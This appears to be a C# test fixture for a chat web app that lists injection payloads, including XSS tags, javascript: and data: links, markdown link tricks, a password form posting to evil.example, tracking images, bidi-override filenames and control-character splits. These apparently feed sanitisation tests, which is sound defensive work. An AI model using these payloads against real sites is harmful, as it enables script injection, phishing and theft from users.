namespace ChatWeb.Tests.Components.Chat;

/// <summary>What people have sent to chats to run a script, to break the page, or to make a message read as something else.</summary>
internal static class AttackCorpus
{
    private const string Script = "<script>alert(1)</script>";
    private const string Image = "<img src=x onerror=alert(1)>";

    public static IEnumerable<string> All =>
    [
        Script,
        "<ScRiPt src=//evil.example></sCrIpT >",
        "<<script>alert(1)//<</script>",
        Image,
        "\"><svg onload=alert(1)>",
        "'\"--></style></script><script>alert(1)</script>",
        "</div></main></body><h1>owned</h1>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<form action=//evil.example><input name=password>",
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
        "<math><mtext></mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<!-- --><![CDATA[ ]]><?php ?>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;lt;",
        "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} @(alert) @{ }",
        "javascript:alert(1) JaVaScRiPt:alert(1) java\tscript:alert(1) vbscript:x",
        "data:text/html,<script>alert(1)</script> data:text/html;base64,PHNjcmlwdD4=",
        "[x](javascript:alert(1)) [x](JAVASCRIPT:alert(1)) [x]( javascript:alert(1)) [x](&#106;avascript:alert(1)) [x](java%0ascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example) [x](/sign-out)",
        "[\"onmouseover=alert(1) x=\"](https://example.org/\"onmouseover=\"alert(1))",
        "[<img src=x onerror=alert(1)>](https://example.org)",
        "![x](https://evil.example/track.png) ![x](x\"onerror=\"alert(1))",
        "[a]: javascript:alert(1)\n[a]",
        "<javascript:alert(1)> <https://example.org/\"onclick=\"alert(1)>",
        "https://example.org/\"onmouseover=\"alert(1) https://example.org/'><script>alert(1)</script>",
        "https://user:password@bank.example@evil.example/ https://bank.example\\@evil.example",
        "https://example.org/`onmouseover=alert(1)` https://[::1 https://[\"onload=x]",
        "mailto:a@b.example?body=<script> mailto:\"onclick=alert(1)@b.example irc://x/\"><script>",
        "`" + Script + "` ``" + Image + "``",
        "```html\n" + Script + "\n" + Image + "\n```",
        "```\"onmouseover=\"alert(1)\nx\n```",
        "```<script>\nx\n```",
        "```\n</code></pre>" + Script,
        "~~~\n" + Script + "\n~~~",
        "> " + Script + "\n> > " + Image,
        "- " + Script + "\n- " + Image,
        "1. " + Script + "\n2. " + Image,
        "**" + Script + "** _" + Image + "_ ~~" + Script + "~~ ***" + Image + "***",
        "**<b*onclick=alert(1)*>**",
        "\u0002" + Script + "\u0002 \u000304,05" + Image + "\u000f \u0004ff0000\"><script>\u0004",
        "<scr\u0002ipt>alert(1)</scr\u0000ipt> <scr\u200bipt>",
        "java\u0003script:alert(1) [x](java\u0002script:alert(1))",
        "\u202Egnp.exe\u202C \u2066\u202Ehttps://evil.example\u2069",
        "\ud800 lone \udfff halves " + Script,
        "\u0001ACTION " + Script + "\u0001",
        "e" + new string('\u0301', 300),
        new string('<', 2_000),
    ];
}
